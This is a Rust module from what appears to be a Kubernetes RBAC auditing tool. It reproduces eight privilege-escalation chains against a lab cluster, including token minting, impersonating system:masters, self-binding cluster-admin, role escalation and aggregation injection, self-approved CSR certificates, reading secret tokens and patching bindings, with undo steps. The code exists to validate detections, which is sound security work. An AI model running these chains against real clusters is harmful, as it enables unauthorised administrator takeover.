//! The chains: what the cluster grants the attacker, the steps as an attacker takes them, and how they are undone.

use super::Lab;
use super::actor::{Actor, eventually};
use crate::kube::{Request, certificate_subject};
use anyhow::{Context, Result};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

/// The path of a collection, and an object for it.
type Made = (&'static str, Value);

/// A chain.
pub(super) struct Chain {
    pub(super) name: &'static str,
    /// The steps that seawall tells.
    pub(super) edges: &'static [&'static str],
    /// What the cluster holds.
    pub(super) objects: fn() -> Vec<Made>,
    /// Takes the steps.
    pub(super) attack: fn(&mut Lab<'_>) -> Result<Outcome>,
    /// Takes back what the steps have made.
    pub(super) undo: fn(&mut Lab<'_>) -> Result<()>,
}

impl Chain {
    /// The attacker's name.
    pub(super) fn user(&self) -> String {
        format!("attacker-{}", self.name)
    }
}

/// How far the steps led.
pub(super) enum Outcome {
    /// To the end; as whom.
    Reached(Box<Actor>),
    /// This was refused.
    Refused(String),
}

/// All of them.
pub(super) const ALL: &[Chain] = &[
    Chain {
        name: "token",
        edges: &["TOKEN_CREATE", "WILDCARD"],
        objects: token_objects,
        attack: token,
        undo: nothing,
    },
    Chain {
        name: "impersonate",
        edges: &["IMPERSONATE_GROUP", "MASTERS"],
        objects: impersonate_objects,
        attack: impersonate,
        undo: nothing,
    },
    Chain { name: "bind", edges: &["BIND_CRB"], objects: bind_objects, attack: bind, undo: undo_bind },
    Chain {
        name: "escalate",
        edges: &["ESCALATE"],
        objects: escalate_objects,
        attack: escalate,
        undo: undo_escalate,
    },
    Chain {
        name: "aggregate",
        edges: &["AGGREGATE_INJECT"],
        objects: aggregate_objects,
        attack: aggregate,
        undo: undo_aggregate,
    },
    Chain {
        name: "csr",
        edges: &["CSR_CLIENT", "WILDCARD"],
        objects: csr_objects,
        attack: csr,
        undo: undo_csr,
    },
    Chain {
        name: "secret",
        edges: &["TOKEN_SECRET_READ", "WILDCARD"],
        objects: secret_objects,
        attack: secret,
        undo: nothing,
    },
    Chain {
        name: "patch",
        edges: &["BINDING_PATCH"],
        objects: patch_objects,
        attack: patch,
        undo: undo_patch,
    },
];

const RBAC: &str = "rbac.authorization.k8s.io";
const ROLES: &str = "/apis/rbac.authorization.k8s.io/v1/clusterroles";
const BINDINGS: &str = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings";
const REQUESTS: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";

fn nothing(_: &mut Lab<'_>) -> Result<()> {
    Ok(())
}

fn role(name: &str, rules: Value) -> Made {
    (
        ROLES,
        json!({"apiVersion": format!("{RBAC}/v1"), "kind": "ClusterRole", "metadata": {"name": name}, "rules": rules}),
    )
}

fn binding(name: &str, role: &str, subject: Value) -> Made {
    (
        BINDINGS,
        json!({"apiVersion": format!("{RBAC}/v1"), "kind": "ClusterRoleBinding", "metadata": {"name": name},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": role}, "subjects": [subject]}),
    )
}

fn user(name: &str) -> Value {
    json!({"kind": "User", "apiGroup": RBAC, "name": name})
}

/// A role of the attacker with these rules, and its binding.
fn granted(chain: &str, rules: Value) -> Vec<Made> {
    let name = format!("attacker-{chain}");
    vec![role(&name, rules), binding(&name, &name, user(&name))]
}

/// The attacker again, for the step in hand.
fn attacker(lab: &Lab<'_>, name: &str) -> Result<Actor> {
    let chain = ALL.iter().find(|chain| chain.name == name).context("a chain")?;
    lab.attacker(chain)
}

fn refused(step: &str, answer: &crate::kube::Answer) -> Result<Outcome> {
    anyhow::ensure!(answer.status == 403, "{step}: {} {}", answer.status, answer.text());
    Ok(Outcome::Refused(step.to_owned()))
}

/// Whether what was just made works, once the server has seen it.
fn settle(mut actor: Actor, step: &str) -> Result<Outcome> {
    Ok(match eventually(|| actor.may_do_everything())? {
        true => Outcome::Reached(Box::new(actor)),
        false => Outcome::Refused(step.to_owned()),
    })
}

fn delete(lab: &mut Lab<'_>, path: &str) -> Result<()> {
    let answer = lab.admin.send(&Request::new("DELETE", path))?;
    anyhow::ensure!(answer.status / 100 == 2 || answer.status == 404, "DELETE {path}: {}", answer.text());
    Ok(())
}

// A token is made for a service account that is administrator.

fn token_objects() -> Vec<Made> {
    let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "deployer"}});
    let subject = json!({"kind": "ServiceAccount", "name": "deployer", "namespace": "kube-public"});
    let mut all = granted(
        "token",
        json!([{"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["create"], "resourceNames": ["deployer"]}]),
    );
    all.push(("/api/v1/namespaces/kube-public/serviceaccounts", account));
    all.push(binding("deployer", "cluster-admin", subject));
    all
}

fn token(lab: &mut Lab<'_>) -> Result<Outcome> {
    let request = json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}});
    let path = "/api/v1/namespaces/kube-public/serviceaccounts/deployer/token";
    let answer = attacker(lab, "token")?.send("POST", path, &request)?;
    if answer.status != 201 {
        return refused("a token is asked for", &answer);
    }
    let answer: Value = answer.json()?;
    let token = answer["status"]["token"].as_str().context("a token")?;
    settle(Actor::with_token(lab.server.target(None)?, token), "the token is used")
}

// Requests are sent as a member of system:masters.

fn impersonate_objects() -> Vec<Made> {
    granted(
        "impersonate",
        json!([
            {"apiGroups": [""], "resources": ["users"], "verbs": ["impersonate"]},
            {"apiGroups": [""], "resources": ["groups"], "verbs": ["impersonate"], "resourceNames": ["system:masters"]}
        ]),
    )
}

fn impersonate(lab: &mut Lab<'_>) -> Result<Outcome> {
    let headers = [("Impersonate-User", "nobody-at-all"), ("Impersonate-Group", "system:masters")];
    let mut actor = attacker(lab, "impersonate")?.acting(&headers);
    let answer = actor.get("/api/v1/namespaces")?;
    if answer.status != 200 {
        return refused("a request is sent as somebody else", &answer);
    }
    settle(actor, "requests are sent as somebody else")
}

// The attacker binds cluster-admin to itself.

fn bind_objects() -> Vec<Made> {
    granted(
        "bind",
        json!([
            {"apiGroups": [RBAC], "resources": ["clusterrolebindings"], "verbs": ["create"]},
            {"apiGroups": [RBAC], "resources": ["clusterroles"], "verbs": ["bind"], "resourceNames": ["cluster-admin"]}
        ]),
    )
}

fn bind(lab: &mut Lab<'_>) -> Result<Outcome> {
    let mut actor = attacker(lab, "bind")?;
    let (path, object) = binding("taken", "cluster-admin", user("attacker-bind"));
    let answer = actor.send("POST", path, &object)?;
    if !matches!(answer.status, 201 | 409) {
        return refused("a binding is made", &answer);
    }
    settle(actor, "the binding is used")
}

fn undo_bind(lab: &mut Lab<'_>) -> Result<()> {
    delete(lab, &format!("{BINDINGS}/taken"))
}

// The attacker rewrites the role that it holds.

fn escalate_rules() -> Value {
    json!([{"apiGroups": [RBAC], "resources": ["clusterroles"], "verbs": ["get", "patch", "escalate"], "resourceNames": ["attacker-escalate"]}])
}

fn escalate_objects() -> Vec<Made> {
    granted("escalate", escalate_rules())
}

fn everything() -> Value {
    json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])
}

fn escalate(lab: &mut Lab<'_>) -> Result<Outcome> {
    let mut actor = attacker(lab, "escalate")?;
    let path = format!("{ROLES}/attacker-escalate");
    let mut rules = escalate_rules();
    if let Some(rules) = rules.as_array_mut() {
        rules.extend(everything().as_array().cloned().unwrap_or_default());
    }
    let answer = actor.send("PATCH", &path, &json!({ "rules": rules }))?;
    if answer.status != 200 {
        return refused("the role is rewritten", &answer);
    }
    settle(actor, "the role is used")
}

fn undo_escalate(lab: &mut Lab<'_>) -> Result<()> {
    // Only what the attack wrote: a role that the cut has changed stays as it is.
    let path = format!("{ROLES}/attacker-escalate");
    let now: Value = lab.admin.send(&Request::new("GET", &path))?.successful(&path)?.json()?;
    let rules: Vec<&Value> = now["rules"].as_array().into_iter().flatten().collect();
    let taken = everything();
    let left: Vec<&Value> = rules.into_iter().filter(|rule| **rule != taken[0]).collect();
    let request = Request::json("PATCH", &path, &json!({ "rules": left }));
    let request =
        Request { headers: vec![("Content-Type".into(), "application/merge-patch+json".into())], ..request };
    lab.admin.send(&request)?.successful(&path)?;
    Ok(())
}

// The attacker makes a role whose rules flow into one that it holds.

fn aggregate_objects() -> Vec<Made> {
    let mut all = granted(
        "aggregate",
        json!([{"apiGroups": [RBAC], "resources": ["clusterroles"], "verbs": ["create", "escalate"]}]),
    );
    let (path, mut collected) = role("collected", json!([]));
    collected["aggregationRule"] = json!({"clusterRoleSelectors": [{"matchLabels": {"collect": "true"}}]});
    all.push((path, collected));
    all.push(binding("collected", "collected", user("attacker-aggregate")));
    all
}

fn aggregate(lab: &mut Lab<'_>) -> Result<Outcome> {
    let mut actor = attacker(lab, "aggregate")?;
    let (path, mut object) = role("injected", everything());
    object["metadata"]["labels"] = json!({"collect": "true"});
    let answer = actor.send("POST", path, &object)?;
    if !matches!(answer.status, 201 | 409) {
        return refused("a role with the label is made", &answer);
    }
    settle(actor, "the role has collected everything")
}

fn undo_aggregate(lab: &mut Lab<'_>) -> Result<()> {
    delete(lab, &format!("{ROLES}/injected"))
}

// The attacker has a certificate of an administrator signed.

fn csr_objects() -> Vec<Made> {
    let mut all = granted(
        "csr",
        json!([
            {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests"], "verbs": ["create", "get"]},
            {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests/approval"], "verbs": ["update"]},
            {"apiGroups": ["certificates.k8s.io"], "resources": ["signers"], "verbs": ["approve"],
                "resourceNames": ["kubernetes.io/kube-apiserver-client"]}
        ]),
    );
    all.push(binding("boss", "cluster-admin", user("the-boss")));
    all
}

fn csr(lab: &mut Lab<'_>) -> Result<Outcome> {
    let mut actor = attacker(lab, "csr")?;
    let key = rcgen::KeyPair::generate()?;
    let mut params = rcgen::CertificateParams::default();
    params.distinguished_name = certificate_subject("the-boss", &[]);
    let pem = params.serialize_request(&key)?.pem()?;
    let object = json!({"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "wanted"},
        "spec": {"request": STANDARD.encode(pem), "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}});
    undo_csr(lab)?;
    let answer = actor.send("POST", REQUESTS, &object)?;
    if answer.status != 201 {
        return refused("a certificate is asked for", &answer);
    }
    let mut request: Value = answer.json()?;
    request["status"] = json!({"conditions": [{"type": "Approved", "status": "True", "reason": "Wanted", "message": "wanted"}]});
    let path = format!("{REQUESTS}/wanted");
    let answer = actor.send("PUT", &format!("{path}/approval"), &request)?;
    if answer.status != 200 {
        return refused("the request is approved", &answer);
    }
    let mut certificate = None;
    let signed = eventually(|| {
        let answer = actor.get(&path)?;
        if answer.status != 200 {
            return Ok(false);
        }
        let answer: Value = answer.json()?;
        certificate = answer["status"]["certificate"].as_str().map(str::to_owned);
        Ok(certificate.is_some())
    })?;
    let Some(certificate) = certificate.filter(|_| signed) else {
        return Ok(Outcome::Refused("the certificate is fetched".to_owned()));
    };
    let pem = String::from_utf8(STANDARD.decode(certificate)?)?;
    let credential = crate::kube::Credential::signed(&pem, &key)?;
    settle(Actor::new(lab.server.target(Some(&credential))?), "the certificate is used")
}

fn undo_csr(lab: &mut Lab<'_>) -> Result<()> {
    delete(lab, &format!("{REQUESTS}/wanted"))
}

// The attacker reads a token that lies in a secret.

fn secret_objects() -> Vec<Made> {
    let mut all = granted(
        "secret",
        json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": ["robot-token"]}]),
    );
    let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "robot"}});
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "robot-token", "annotations": {"kubernetes.io/service-account.name": "robot"}}});
    let subject = json!({"kind": "ServiceAccount", "name": "robot", "namespace": "kube-public"});
    all.push(("/api/v1/namespaces/kube-public/serviceaccounts", account));
    all.push(("/api/v1/namespaces/kube-public/secrets", secret));
    all.push(binding("robot", "cluster-admin", subject));
    all
}

fn secret(lab: &mut Lab<'_>) -> Result<Outcome> {
    let answer = attacker(lab, "secret")?.get("/api/v1/namespaces/kube-public/secrets/robot-token")?;
    if answer.status == 404 {
        return Ok(Outcome::Refused("the secret is gone".to_owned()));
    }
    if answer.status != 200 {
        return refused("the secret is read", &answer);
    }
    let answer: Value = answer.json()?;
    let Some(token) = answer["data"]["token"].as_str() else {
        return Ok(Outcome::Refused("the controller has not written the token yet".to_owned()));
    };
    let token = String::from_utf8(STANDARD.decode(token)?)?;
    settle(Actor::with_token(lab.server.target(None)?, &token), "the token is used")
}

// The attacker adds itself to a binding.

fn patch_objects() -> Vec<Made> {
    let mut all = granted(
        "patch",
        json!([
            {"apiGroups": [RBAC], "resources": ["clusterrolebindings"], "verbs": ["patch"], "resourceNames": ["admins"]},
            {"apiGroups": [RBAC], "resources": ["clusterroles"], "verbs": ["bind"], "resourceNames": ["cluster-admin"]}
        ]),
    );
    all.push(binding("admins", "cluster-admin", user("somebody")));
    all
}

fn patch(lab: &mut Lab<'_>) -> Result<Outcome> {
    let mut actor = attacker(lab, "patch")?;
    let body = json!({"subjects": [user("somebody"), user("attacker-patch")]});
    let answer = actor.send("PATCH", &format!("{BINDINGS}/admins"), &body)?;
    if answer.status != 200 {
        return refused("the binding is changed", &answer);
    }
    settle(actor, "the binding is used")
}

fn undo_patch(lab: &mut Lab<'_>) -> Result<()> {
    let path = format!("{BINDINGS}/admins");
    let mut request = Request::json("PATCH", &path, &json!({"subjects": [user("somebody")]}));
    request.headers = vec![("Content-Type".into(), "application/merge-patch+json".into())];
    lab.admin.send(&request)?.successful(&path)?;
    Ok(())
}
